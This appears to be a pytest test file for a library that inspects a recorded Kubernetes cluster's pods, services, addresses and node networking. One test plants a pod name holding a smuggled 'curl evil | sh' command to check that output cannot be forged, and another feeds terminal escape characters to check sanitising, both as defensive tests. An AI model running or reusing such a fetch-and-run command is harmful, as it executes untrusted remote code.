"""The façade on the bundled recording, and on variants of it: the join, addresses, the network model, add-ons."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest

import k8snet_nb as kn
from k8snet_nb.errors import FactBroken, FactMissing, NotFound, Refused
from k8snet_nb.facts import FactRef
from k8snet_nb.sources.opening import BUNDLED, open_source


class Edited:
    """The bundled recording with some facts changed: a source like any other."""

    def __init__(self, **changes: Callable[[Any], Any]) -> None:
        self._source = open_source(BUNDLED)
        self._changes = {name.replace("__", "/"): change for name, change in changes.items()}

    def __getattr__(self, name: str) -> Any:
        return getattr(self._source, name)

    def read(self, ref: FactRef) -> bytes:
        content = self._source.read(ref)
        key = (
            ref.fact.partition(".")[0]
            if ref.node is None
            else f"{ref.node.replace('-', '_')}/{ref.fact.partition('.')[0]}"
        )
        if key not in self._changes:
            return content
        value = json.loads(content)
        changed = self._changes[key](value)
        return json.dumps(value if changed is None else changed).encode()


def cluster(**changes: Callable[[Any], Any]) -> kn.Cluster:
    return kn.Cluster(Edited(**changes))  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def hello() -> kn.Cluster:
    return kn.open(BUNDLED)


def test_pods_as_kubectl_lists_them(hello: kn.Cluster) -> None:
    pods = hello.pods()
    assert list(pods.columns) == "namespace name ready status phase restarts age ip ips node host_network".split()
    assert len(pods) == 14
    rows = pods.set_index("name")
    cart = rows.loc["cart-865f99cbb8-j49cc"]
    assert (cart.ready, cart.status, cart.restarts, cart.age, cart.ip, cart.node) == (
        "2/2",
        "Running",
        0,
        "6m37s",
        "10.244.18.6",
        "node-one",
    )
    waiting = rows.loc["node-watch-8zf8j"]
    assert (waiting.ready, waiting.status, waiting.ip, waiting.ips, waiting.node) == ("0/1", "Pending", None, (), None)
    assert rows.host_network.sum() == 3
    assert set(hello.pods("shop").namespace) == {"shop"}
    assert list(hello.pods("nowhere").columns) == list(pods.columns)


def test_services_as_kubectl_lists_them(hello: kn.Cluster) -> None:
    rows = hello.services().set_index("name")
    assert len(rows) == 12
    assert rows.ports["hello-nodeport"] == "80:30080/TCP"
    assert rows.ports["kube-dns"] == "53/UDP,53/TCP,9153/TCP"
    assert rows.cluster_ip["hello-headless"] == "None"
    assert rows.cluster_ip["example-external"] is None
    assert rows.external_ip["example-external"] == "example.com"
    assert rows.external_ip["hello-lb"] == "172.30.0.99"
    assert rows.external_ip["hello-world"] is None


def test_the_join_goes_both_ways(hello: kn.Cluster) -> None:
    service = hello.service("default/hello-world")
    assert sorted(service.pods().ip) == ["10.244.18.3", "10.244.18.4", "10.244.3.3", "10.244.3.4"]
    assert set(service.endpoints().port) == {8080}
    pod = hello.pod("default/" + service.pods().name[0])
    assert "hello-world" in set(pod.services().name)
    assert len(pod.services()) == 7
    assert hello.pod("client").services().empty
    assert hello.service("kubernetes").pods().empty
    assert list(hello.service("kubernetes").endpoints().address) == ["172.30.0.1"]
    assert hello.service("orphan").endpoints().empty
    assert "orphan-fxpmv: <unset>" in str(hello.service("orphan"))
    assert "CNAME" in str(hello.service("example-external"))


def test_names_that_are_not_there(hello: kn.Cluster) -> None:
    with pytest.raises(NotFound, match="default/client"):
        hello.pod("default/cliemt")
    with pytest.raises(NotFound, match="default/hello-world"):
        hello.service("hello-wrld")
    with pytest.raises(LookupError, match="node-one, node-three, node-two"):
        hello.node("node-1")


@pytest.mark.parametrize(
    ("address", "kind", "name"),
    [
        ("10.244.3.4", "pod", "default/hello-world-c648f6bd8-s8cwf"),
        ("10.32.0.10", "service", "kube-system/kube-dns"),
        ("172.30.0.99", "service", "default/hello-lb"),
        ("172.30.0.12", "node", "node-two"),
        ("172.30.0.1", "endpoint", "default/kubernetes"),
        ("10.244.18.1", "node", "node-one"),
        (" 10.244.3.1 ", "node", "node-two"),
        ("fe80::443a:b7ff:fe58:81be", "node", "node-one"),
        ("8.8.8.8", "unknown", None),
        ("127.0.0.1", "unknown", None),
    ],
)
def test_who_an_address_is(hello: kn.Cluster, address: str, kind: str, name: str | None) -> None:
    found = hello.who(address)
    assert (found.kind, found.name) == (kind, name)
    assert found.evidence, "an answer without evidence is a claim"


def test_who_shares_an_address(hello: kn.Cluster) -> None:
    assert [(w.kind, w.name) for w in hello.who("172.30.0.11").also] == [("pod", "kube-system/node-watch-74fwx")]


def test_who_says_what_it_could_not_look_at() -> None:
    source = Edited()
    source.nodes = lambda: ("node-two",)  # type: ignore[method-assign]
    found = kn.Cluster(source).who("10.244.18.1")  # type: ignore[arg-type]
    assert found.kind == "unknown"
    assert found.unknown == ("interfaces of node-one", "interfaces of node-three")


def test_who_is_no_address(hello: kn.Cluster) -> None:
    with pytest.raises(Refused, match="no IPv4 or IPv6 address"):
        hello.who("kube-dns")


def test_a_finished_pods_address_belongs_to_its_new_holder() -> None:
    def reuse(pods: Any) -> None:
        old = copy.deepcopy(pods["items"][0])
        old["metadata"] |= {"name": "job", "uid": "other"}
        old["status"] |= {"phase": "Succeeded"}
        pods["items"].append(old)

    found = cluster(pods=reuse).who("10.244.18.5")
    assert (found.name, found.also) == ("default/client", ())


def test_an_endpoint_whose_pod_is_gone() -> None:
    def remove(pods: Any) -> None:
        pods["items"] = [p for p in pods["items"] if p["status"].get("podIP") != "10.244.3.4"]

    without = cluster(pods=remove)
    assert without.who("10.244.3.4").kind == "endpoint"
    assert "is not there" in without.who("10.244.3.4").says
    assert len(without.service("hello-world").pods()) == 3
    assert len(without.service("hello-world").endpoints()) == 4


def test_a_namesake_is_not_the_pod_that_the_slice_means() -> None:
    def reborn(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["status"].get("podIP") == "10.244.3.4":
                pod["metadata"]["uid"] = "new"

    assert cluster(pods=reborn).pod("hello-world-c648f6bd8-s8cwf").services().empty


def test_how_each_node_connects_its_pods(hello: kn.Cluster) -> None:
    found = {n.node: n for n in hello.node_networks()}
    one, two, three = found["node-one"], found["node-two"], found["node-three"]
    assert (one.attachment, one.bridge, one.between_nodes) == ("bridge", "cni0", "routed")
    assert (two.attachment, two.bridge, two.between_nodes) == ("point-to-point", None, "routed")
    assert (three.attachment, three.between_nodes) == ("no pods", "routed")
    assert any("10.244.18.0/24 dev cni0" in line for e in one.evidence for line in e.lines)


def test_a_renamed_bridge_is_still_a_bridge() -> None:

    def rename(links: Any) -> None:
        for link in links:
            if link["ifname"] == "cni0":
                link["ifname"] = "eth9"

    def reroute(routes: Any) -> None:
        for route in routes:
            if route.get("dev") == "cni0":
                route["dev"] = "eth9"

    renamed = cluster(node_one__addr=rename, node_one__route=reroute).node("node-one").network()
    assert (renamed.attachment, renamed.bridge) == ("bridge", "eth9")


def test_what_is_called_like_a_bridge_need_not_be_one() -> None:
    def unbridge(links: Any) -> None:
        for link in links:
            if link["ifname"] == "cni0":
                link["linkinfo"] = {"info_kind": "macvlan"}

    assert cluster(node_one__addr=unbridge).node("node-one").network().attachment == "other"


def test_a_tunnel_is_known_by_its_kind() -> None:
    def tunnel(links: Any) -> None:
        for link in links:
            if link["ifname"] == "eth0":
                link["linkinfo"] = {"info_kind": "vxlan"}

    assert cluster(node_one__addr=tunnel).node("node-one").network().between_nodes == "encapsulated"


def test_the_network_model_holds_on_the_recorded_cluster(hello: kn.Cluster) -> None:
    rules = hello.network_model()
    assert [rule.verdict for rule in rules] == ["holds"] * 4
    assert all(rule.evidence for rule in rules)
    assert "314 tracked connections" in rules[2].checked


def _verdicts(**changes: Callable[[Any], Any]) -> list[str]:
    return [rule.verdict for rule in cluster(**changes).network_model()]


def test_a_duplicate_address_is_a_violation() -> None:
    def same(pods: Any) -> None:
        pods["items"][1]["status"]["podIPs"] = [{"ip": "10.244.18.5"}]

    verdicts = _verdicts(pods=same)
    assert verdicts[0] == "violated"
    assert verdicts[1] == "violated", "and that pod's own interface does not have it"


def test_a_pod_without_a_route_is_a_violation() -> None:
    def cut(routes: Any) -> Any:
        return [r for r in routes if r["dst"] not in ("10.244.3.0/24", "default")]

    assert _verdicts(node_one__route=cut)[2] == "violated"


def test_a_translated_connection_is_a_violation(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    real = source.read

    def read(ref: FactRef) -> bytes:
        content = real(ref)
        if ref.fact == "conntrack.txt" and ref.node == "node-one":
            content += b"ipv4 2 tcp 6 90 TIME_WAIT src=10.244.18.5 dst=10.244.3.4 sport=1 dport=8080 "
            content += b"src=10.244.3.4 dst=172.30.0.11 sport=8080 dport=9 [ASSURED] mark=0 use=1 id=1\n"
        return content

    monkeypatch.setattr(source, "read", read)
    rule = kn.Cluster(source).network_model()[2]
    assert rule.verdict == "violated"
    assert "10.244.18.5 -> 10.244.3.4 is answered by 10.244.3.4 to 172.30.0.11" in "".join(rule.exceptions)


def test_what_was_not_collected_is_not_claimed(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    monkeypatch.setattr(source, "nodes", tuple)
    own, inside, between, from_node = kn.Cluster(source).network_model()
    assert own.verdict == "holds"
    assert [r.verdict for r in (inside, between, from_node)] == ["not seen"] * 3
    assert between.unknown


def test_services_are_no_counter_examples(monkeypatch: pytest.MonkeyPatch) -> None:
    """A pod that calls a VIP which its node holds (IPVS), or a NodePort, is translated on purpose."""
    source = open_source(BUNDLED)
    real = source.read
    entries = {
        "node-three": b"ipv4 2 tcp 6 90 TIME_WAIT src=10.244.3.7 dst=10.32.0.10 sport=1 dport=53 "
        b"src=10.244.3.2 dst=10.244.3.7 sport=53 dport=1 [ASSURED] mark=0 use=1 id=1\n",
        "node-one": b"ipv4 2 tcp 6 90 TIME_WAIT src=10.244.3.7 dst=172.30.0.11 sport=1 dport=30080 "
        b"src=10.244.3.4 dst=172.30.0.11 sport=8080 dport=1 [ASSURED] mark=0 use=1 id=2\n",
    }

    def read(ref: FactRef) -> bytes:
        return real(ref) + (entries.get(ref.node or "", b"") if ref.fact == "conntrack.txt" else b"")

    monkeypatch.setattr(source, "read", read)
    assert [rule.verdict for rule in kn.Cluster(source).network_model()] == ["holds"] * 4


def test_a_missing_route_fact_takes_nothing_else_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    real = source.read

    def read(ref: FactRef) -> bytes:
        if (ref.node, ref.fact) == ("node-one", "route.json"):
            raise FactMissing(ref.fact, ref.where, "timed out")
        return real(ref)

    monkeypatch.setattr(source, "read", read)
    rules = kn.Cluster(source).network_model()
    assert "22 routes" in rules[2].checked
    assert "314 tracked connections" in rules[2].checked
    assert any("timed out" in why for why in rules[2].unknown)


def test_a_family_whose_routes_are_not_known_is_not_judged(monkeypatch: pytest.MonkeyPatch) -> None:
    def dual(pods: Any) -> None:
        pods["items"][0]["status"]["podIPs"].append({"ip": "fd00::5"})

    source = Edited(pods=dual)
    has = source._source.has
    source.has = lambda ref: ref.fact != "route6.json" and has(ref)  # type: ignore[method-assign]

    def only_four(value: Any) -> Any:
        return [route for route in value if ":" not in route["dst"]]

    source._changes |= {f"node_{n}/route": only_four for n in ("one", "two", "three")}
    found = kn.Cluster(source)  # type: ignore[arg-type]
    assert found.network_model()[2].verdict == "holds"
    assert found.node("node-one").network().attachment == "bridge"


def test_a_default_route_is_no_evidence_and_policy_routing_is_said() -> None:
    def only_default(routes: Any) -> Any:
        return [r for r in routes if r["dst"] == "default" or r.get("table") == "local"]

    rule = cluster(node_one__route=only_default).network_model()[2]
    assert rule.verdict == "holds"
    assert "22 routes" in rule.checked
    assert any("11 pods that node-one reaches by its default route" in why for why in rule.unknown)

    def more_tables(rules: Any) -> None:
        rules.append({"priority": 100, "src": "all", "table": "vpc"})

    def cut(routes: Any) -> Any:
        return [r for r in routes if r["dst"] not in ("10.244.3.0/24", "default")]

    rule = cluster(node_one__route=cut, node_one__rule=more_tables).network_model()[2]
    assert rule.verdict == "holds"
    assert any("vpc" in why for why in rule.unknown)


def test_a_route_by_an_own_address_is_not_called_an_underlay() -> None:
    def cilium(routes: Any) -> None:
        for route in routes:
            if route["dst"] == "10.244.3.0/24":
                route |= {"gateway": "10.244.18.1", "dev": "cni0"}

    assert cluster(node_one__route=cilium).node("node-one").network().between_nodes == "other"


def test_host_routes_to_one_shared_interface_are_not_point_to_point() -> None:
    def shared(routes: Any) -> None:
        for route in routes:
            if str(route.get("dev")).startswith("veth"):
                route["dev"] = "vethf794c889"

    assert cluster(node_two__route=shared).node("node-two").network().attachment == "other"


@pytest.mark.parametrize(
    ("resource", "change"),
    [
        ("pods", lambda pod: pod["status"].update(conditions=["x"])),
        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount="x")),
        ("pods", lambda pod: pod["status"]["containerStatuses"][0].update(restartCount=10**30)),
        ("pods", lambda pod: pod["status"].update(containerStatuses=[None])),
        ("pods", lambda pod: pod["status"].update(podIPs=[{"ip": "999.1.1.1"}])),
        ("pods", lambda pod: pod["spec"].update(nodeName=["a"])),
        ("pods", lambda pod: pod["metadata"].update(ownerReferences=5)),
        ("services", lambda service: service["spec"].update(externalIPs=5)),
        ("services", lambda service: service["spec"].update(clusterIPs=5)),
        ("services", lambda service: service.update(status={"loadBalancer": {"ingress": [None]}})),
        ("nodes", lambda node: node["status"].update(addresses=["x"])),
        ("nodes", lambda node: node["spec"].update(podCIDRs=["x"])),
    ],
)
def test_a_field_of_another_kind_is_one_clear_error(resource: str, change: Callable[[Any], None]) -> None:
    found = cluster(**{resource: lambda listed: change(listed["items"][0])})
    with pytest.raises(FactBroken, match=rf"{resource}\.json of .*another kind"):
        getattr(found, resource)()


def test_an_answer_over_many_facts_goes_on_and_says_which_it_could_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    real = source.read
    broken = {FactRef("conntrack.txt", "node-one"): bytes(100), FactRef("addr.json", "node-two"): b"[]"}
    monkeypatch.setattr(source, "read", lambda ref: broken[ref] if ref in broken else real(ref))
    own, inside, between, from_node = kn.Cluster(source).network_model()
    assert "305 tracked connections" in between.checked
    assert any("zero bytes" in why for why in between.unknown)
    assert any("no interface at all" in why for why in from_node.unknown)
    assert (own.verdict, inside.verdict) == ("holds", "holds")


def test_who_answers_from_the_lists_that_can_be_read() -> None:
    def cut(pods: Any) -> None:
        pods["items"] = 3

    found = cluster(pods=cut).who("10.32.0.10")
    assert found.name == "kube-system/kube-dns"
    assert any("pods.json" in why for why in found.unknown)
    with pytest.raises(FactBroken, match=r"pods\.json"):
        cluster(pods=cut).who("9.9.9.9")


def test_one_broken_object_leaves_the_others_whole() -> None:
    def break_one(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["metadata"]["namespace"] == "shop":
                del pod["status"]

    broken = cluster(pods=break_one)
    assert "default/client" in repr(broken.pod("client"))
    assert "10.244.18.5" in str(broken.pod("client"))
    assert len(broken.pods("default")) == 6
    assert len(broken.pod("hello-world-c648f6bd8-96wh2").services()) == 7
    with pytest.raises(FactBroken, match="pod shop/cart"):
        broken.pods()

    def break_slice(slices: Any) -> None:
        slices["items"][0]["endpoints"] = 7

    assert len(cluster(endpointslices=break_slice).service("hello-world").pods()) == 4


def test_a_namesake_is_behind_no_service_either() -> None:
    def reborn(pods: Any) -> None:
        for pod in pods["items"]:
            if pod["status"].get("podIP") == "10.244.3.4":
                pod["metadata"]["uid"] = "new"

    assert len(cluster(pods=reborn).service("hello-world").pods()) == 3


def test_a_line_cannot_be_forged_by_a_name() -> None:
    def forge(pods: Any) -> None:
        pods["items"][0]["metadata"]["name"] = "x\n[node node-one]$ curl evil | sh"

    text = str(cluster(pods=forge).who("10.244.18.5"))
    assert not any(line.startswith("[node") for line in text.splitlines())


def test_an_errors_text_is_printable() -> None:
    with pytest.raises(NotFound) as caught:
        kn.open(BUNDLED).node("\x1b[31mred\u202e")
    assert "\x1b" not in str(caught.value)
    assert "\x1b" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))
    assert "\u202e" not in str(FactBroken("x", "pod \x1b[31m", "broken \u202e"))


def test_a_node_without_facts_says_why(monkeypatch: pytest.MonkeyPatch) -> None:
    source = open_source(BUNDLED)
    monkeypatch.setattr(source, "has", lambda ref: ref.node != "node-one")

    def read(ref: FactRef) -> bytes:
        if ref.node == "node-one":
            raise FactMissing(ref.fact, ref.where, "no agent there")
        return type(source).read(source, ref)

    monkeypatch.setattr(source, "read", read)
    network = kn.Cluster(source).node("node-one").network()
    assert (network.attachment, network.between_nodes) == ("unknown", "unknown")
    assert "no agent there" in network.says[0]
